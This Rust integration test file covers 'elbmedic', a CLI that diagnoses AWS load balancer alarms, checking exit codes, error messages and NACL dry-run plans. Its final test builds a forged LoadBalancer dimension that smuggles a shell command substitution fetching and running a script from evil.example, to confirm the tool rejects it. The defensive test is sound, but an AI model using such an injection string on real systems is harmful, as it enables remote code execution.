//! The `elbmedic` binary as a user runs it: output, exit codes (0 ok, 2 bad input, 3
//! unsupported), and one-line errors, never a panic.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_elbmedic"))
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn run(args: &[&str]) -> Output {
    bin()
        .args(args)
        .current_dir(root())
        .output()
        .expect("run elbmedic")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn assert_no_panic(output: &Output) {
    let err = stderr(output);
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "panic: {err}"
    );
}

/// A scratch file under the target directory, unique per test.
fn scratch(name: &str, contents: &[u8]) -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("cli-tests");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, contents).unwrap();
    path
}

#[test]
fn demo_prints_a_real_report() {
    let output = run(&["demo"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.starts_with("CAUSE FOUND: NACL acl-0d4c3b2a1f0e98761 drops replies"),
        "{text}"
    );
    assert!(text.contains("aws ec2 create-network-acl-entry"));
    assert!(text.contains("FINDINGS (2)"));
}

#[test]
fn demo_lists_and_runs_every_scenario_in_every_format() {
    let list = stdout(&run(&["demo", "--list"]));
    let names: Vec<&str> = list
        .lines()
        .map(|l| l.split_whitespace().next().unwrap())
        .collect();
    assert_eq!(names.len(), elbmedic_engine::scenarios::SCENARIOS.len());
    assert!(names.contains(&"alb-rolling-deploy"), "{names:?}");
    for name in &names {
        let json = run(&["demo", "--scenario", name, "--format", "json"]);
        assert_eq!(json.status.code(), Some(0));
        let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        assert!(value["verdict"]["headline"].is_string());
        let md = run(&["demo", "--scenario", name, "--format", "markdown"]);
        assert!(stdout(&md).starts_with("# "));
    }
    let unknown = run(&["demo", "--scenario", "nope"]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(stderr(&unknown).contains("choose one of: clb-idle-timeout"));
}

#[test]
fn diagnose_replays_a_recorded_situation() {
    let output = run(&[
        "diagnose",
        "--event",
        "events/scenarios/alb-idle-timeout/event.json",
        "--snapshot",
        "events/scenarios/alb-idle-timeout/snapshot.json",
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("CAUSE FOUND: Requests run into the 60 s idle timeout"));
}

/// The SNS envelope copied from a queue or an HTTPS endpoint's log (the Lambda record's `Sns`
/// on its own) is diagnosed like the Lambda event it came in.
#[test]
fn diagnose_takes_the_sns_envelope_as_queues_receive_it() {
    let event: serde_json::Value = serde_json::from_slice(
        &std::fs::read(root().join("events/scenarios/alb-idle-timeout/event.json")).unwrap(),
    )
    .unwrap();
    let envelope = scratch(
        "sns-envelope.json",
        event["Records"][0]["Sns"].to_string().as_bytes(),
    );
    let output = run(&[
        "diagnose",
        "--event",
        envelope.to_str().unwrap(),
        "--snapshot",
        "events/scenarios/alb-idle-timeout/snapshot.json",
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("CAUSE FOUND: Requests run into the 60 s idle timeout"));
}

#[test]
fn diagnose_reads_the_event_from_stdin() {
    let mut child = bin()
        .args([
            "diagnose",
            "--event",
            "-",
            "--snapshot",
            "events/scenarios/stale-pod-ip/snapshot.json",
            "--format",
            "json",
        ])
        .current_dir(root())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let event = std::fs::read(root().join("events/scenarios/stale-pod-ip/event.json")).unwrap();
    child.stdin.take().unwrap().write_all(&event).unwrap();
    let output = child.wait_with_output().unwrap();
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value["findings"][0]["code"], "stale-targets");
}

#[test]
fn alarm_prints_what_was_understood() {
    let output = run(&["alarm", "--event", "events/alarms/clb-no-alarm-arn.json"]);
    assert_eq!(output.status.code(), Some(0));
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value["alarm_name"], "orders-clb-HTTPCode_ELB_5XX");
    assert_eq!(value["state"], "ALARM");
    assert_eq!(value["region"], "eu-west-1");
    assert_eq!(value["metric"], "HTTPCode_ELB_5XX");
    assert_eq!(value["namespace"], "AWS/ELB");
    assert_eq!(value["load_balancer"]["kind"], "classic");
    assert_eq!(
        value["load_balancer"]["name"],
        "a3f1c2e4b5d6978812345678abcdef01"
    );
    assert_eq!(
        value["load_balancer"]["id"],
        "a3f1c2e4b5d6978812345678abcdef01"
    );

    let alb = run(&["alarm", "--event", "events/alarms/alb-metric-math.json"]);
    let value: serde_json::Value = serde_json::from_slice(&alb.stdout).unwrap();
    assert_eq!(
        value["load_balancer"]["id"],
        "app/k8s-shop-checkout-6f1e2d3c4b/50dc6c495c0c9188"
    );
    assert_eq!(value["metric"], "HTTPCode_ELB_5XX_Count");

    let multi = run(&["alarm", "--event", "events/alarms/multi-record.json"]);
    let value: serde_json::Value = serde_json::from_slice(&multi.stdout).unwrap();
    assert_eq!(value.as_array().unwrap().len(), 2);
}

#[test]
fn unsupported_alarms_exit_3_with_the_reason() {
    for file in [
        "unsupported-gwlb",
        "unsupported-ec2",
        "unsupported-search",
        "unsupported-two-lbs",
    ] {
        let path = format!("events/alarms/{file}.json");
        let output = run(&["diagnose", "--event", &path]);
        assert_eq!(output.status.code(), Some(3), "{file}: {}", stderr(&output));
        assert!(stdout(&output).starts_with("UNSUPPORTED: "), "{file}");
        assert_eq!(run(&["alarm", "--event", &path]).status.code(), Some(3));
    }
}

/// A composite alarm is understood (its children named); offline it cannot be followed to
/// them, and says so with exit 3 rather than failing as a malformed alarm.
#[test]
fn a_composite_alarm_names_its_children_and_needs_a_live_diagnosis() {
    let path = "events/alarms/composite-alb-5xx.json";
    let understood = run(&["alarm", "--event", path]);
    assert_eq!(understood.status.code(), Some(0), "{}", stderr(&understood));
    let value: serde_json::Value = serde_json::from_slice(&understood.stdout).unwrap();
    assert_eq!(value["outcome"], "composite");
    assert_eq!(
        value["children"],
        serde_json::json!(["k8s-shop-checkout-6f1e2d3c4b-HTTPCode_ELB_504_Count"])
    );
    let offline = run(&[
        "diagnose",
        "--event",
        path,
        "--snapshot",
        "events/scenarios/alb-idle-timeout/snapshot.json",
    ]);
    assert_eq!(offline.status.code(), Some(3), "{}", stderr(&offline));
    let text = stdout(&offline);
    assert!(
        text.starts_with("UNSUPPORTED: checkout-ingress-5xx is a composite alarm"),
        "{text}"
    );
    assert!(text.contains("replay a child alarm's message"), "{text}");
}

#[test]
fn ok_and_insufficient_data_exit_0_without_a_snapshot() {
    let ok = run(&["diagnose", "--event", "events/alarms/alb-ok.json"]);
    assert_eq!(ok.status.code(), Some(0));
    assert!(stdout(&ok).starts_with("RECOVERED: "));
    let skipped = run(&[
        "diagnose",
        "--event",
        "events/alarms/alb-insufficient-data.json",
    ]);
    assert_eq!(skipped.status.code(), Some(0));
    assert!(stdout(&skipped).starts_with("SKIPPED: "));
}

#[test]
fn bad_input_exits_2_with_one_line_naming_the_problem() {
    let huge = scratch("huge.json", &vec![b' '; 5 * 1024 * 1024]);
    let binary = scratch("binary.json", &[0xff, 0xfe, 0x00, 0x12, 0x80, 0x81]);
    let broken = scratch("broken.json", b"{\n  \"Records\": [\n    {\"Sns\": \n");
    let bad_snapshot = scratch("bad-snapshot.json", br#"{"schema_version": 99}"#);
    // The alarmed load balancer, recorded in another region; and with a NACL entry AWS could
    // not hold (a made-up action): both would make a report about the wrong thing.
    let scenario = std::fs::read_to_string("events/scenarios/alb-idle-timeout/snapshot.json")
        .expect("the scenario snapshot");
    let elsewhere = scratch(
        "elsewhere.json",
        scenario
            .replacen("\"region\": \"eu-west-1\"", "\"region\": \"us-east-1\"", 1)
            .as_bytes(),
    );
    let impossible = scratch(
        "impossible.json",
        scenario
            .replacen(
                "\"rule_action\": \"allow\"",
                "\"rule_action\": \"maybe\"",
                1,
            )
            .as_bytes(),
    );
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            vec!["--event".into(), "no/such/file.json".into()],
            "cannot read the event file no/such/file.json",
        ),
        (vec!["--event".into(), "events".into()], "is a directory"),
        (
            vec!["--event".into(), huge.display().to_string()],
            "larger than 4 MiB",
        ),
        (
            vec!["--event".into(), binary.display().to_string()],
            "not UTF-8",
        ),
        (
            vec!["--event".into(), broken.display().to_string()],
            "line 4, column 0",
        ),
        (
            vec![
                "--event".into(),
                "events/alarms/malformed-not-json.json".into(),
            ],
            "invalid JSON at line 2",
        ),
        (
            vec![
                "--event".into(),
                "events/alarms/malformed-message.json".into(),
                "--snapshot".into(),
                "events/scenarios/no-known-cause/snapshot.json".into(),
            ],
            "record 1: Sns.Message is not valid JSON",
        ),
        (
            vec![
                "--event".into(),
                "events/alarms/alb-504-count.json".into(),
                "--snapshot".into(),
                bad_snapshot.display().to_string(),
            ],
            "schema_version 99 is not supported",
        ),
        (
            vec![
                "--event".into(),
                "events/alarms/clb-http-5xx.json".into(),
                "--snapshot".into(),
                "events/scenarios/no-known-cause/snapshot.json".into(),
            ],
            "the alarm names load balancer a3f1c2e4b5d6978812345678abcdef01 but the snapshot",
        ),
        (
            vec![
                "--event".into(),
                "events/scenarios/alb-idle-timeout/event.json".into(),
                "--snapshot".into(),
                elsewhere.display().to_string(),
            ],
            "the alarm is in region eu-west-1 but the snapshot",
        ),
        (
            vec![
                "--event".into(),
                "events/scenarios/alb-idle-timeout/event.json".into(),
                "--snapshot".into(),
                impossible.display().to_string(),
            ],
            "the action is neither allow nor deny",
        ),
    ];
    for (args, expected) in cases {
        let mut all = vec!["diagnose".to_string()];
        all.extend(args);
        let refs: Vec<&str> = all.iter().map(String::as_str).collect();
        let output = run(&refs);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{refs:?}: {}",
            stderr(&output)
        );
        assert_no_panic(&output);
        let err = stderr(&output);
        assert!(
            err.contains(expected),
            "{refs:?}: {err:?} should contain {expected:?}"
        );
        assert_eq!(err.trim_end().lines().count(), 1, "one line: {err:?}");
    }
}

#[test]
fn closed_stdout_does_not_panic() {
    let mut child = bin()
        .args(["demo", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_no_panic(&output);
}

/// Defect 1 as reported: an unrelated explicit deny (rule 50, TCP 3389 to 0.0.0.0/0) on the
/// node NACL's egress made `--mode dry-run` plan allows numbered 47-49 in front of it. The plan
/// must keep them behind it, with one finding for that NACL and direction.
#[test]
fn an_unrelated_deny_is_never_jumped_in_a_dry_run_plan() {
    let dir = root().join("events/scenarios/nacl-ephemeral-node-subnets");
    let mut world: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("snapshot.json")).unwrap()).unwrap();
    let acl = world["network_acls"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|a| a["id"] == "acl-0d4c3b2a1f0e98761")
        .unwrap();
    acl["entries"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "rule_number": 50, "egress": true, "protocol": "6", "rule_action": "deny",
            "cidr_block": "0.0.0.0/0", "port_range": {"from": 3389, "to": 3389}
        }));
    let snapshot = scratch("deny-50.json", world.to_string().as_bytes());
    let event = dir.join("event.json");
    let output = run(&[
        "diagnose",
        "--event",
        event.to_str().unwrap(),
        "--snapshot",
        snapshot.to_str().unwrap(),
        "--mode",
        "dry-run",
        "--format",
        "json",
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let report: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    let on_node_acl = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["code"] == "nacl-blocks-ephemeral-ports"
                && f["resources"][0] == "acl-0d4c3b2a1f0e98761"
        })
        .count();
    assert_eq!(on_node_acl, 1, "{report:#}");
    let actions = report["remediation"]["plan"]["actions"].as_array().unwrap();
    assert_eq!(actions.len(), 3, "{report:#}");
    for action in actions {
        assert!(action["rule_number"].as_u64().unwrap() > 50, "{action}");
        assert!(action.get("in_front_of_deny").is_none(), "{action}");
    }
    assert!(report["remediation"]["plan"]["refused"]
        .as_array()
        .unwrap()
        .is_empty());
}

/// Defect 2 as reported: a `LoadBalancer` dimension carrying a command substitution is bad
/// input (exit 2, one line naming the field), never looked up or printed in a command.
#[test]
fn a_forged_dimension_is_bad_input() {
    let dir = root().join("events/scenarios/alb-idle-timeout");
    let event: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("event.json")).unwrap()).unwrap();
    let mut message: serde_json::Value =
        serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
    message["Trigger"]["Dimensions"] = serde_json::json!([{
        "name": "LoadBalancer",
        "value": "app/k8s-shop-checkout-6f1e2d3c4b/$(curl${IFS}-s${IFS}evil.example|sh)"
    }]);
    let path = scratch("forged-dimension.json", message.to_string().as_bytes());
    let output = run(&[
        "diagnose",
        "--event",
        path.to_str().unwrap(),
        "--snapshot",
        dir.join("snapshot.json").to_str().unwrap(),
    ]);
    assert_no_panic(&output);
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    let error = stderr(&output);
    assert!(error.contains("LoadBalancer dimension"), "{error}");
    assert_eq!(error.trim().lines().count(), 1, "{error}");
    assert!(!stdout(&output).contains("curl"));
}
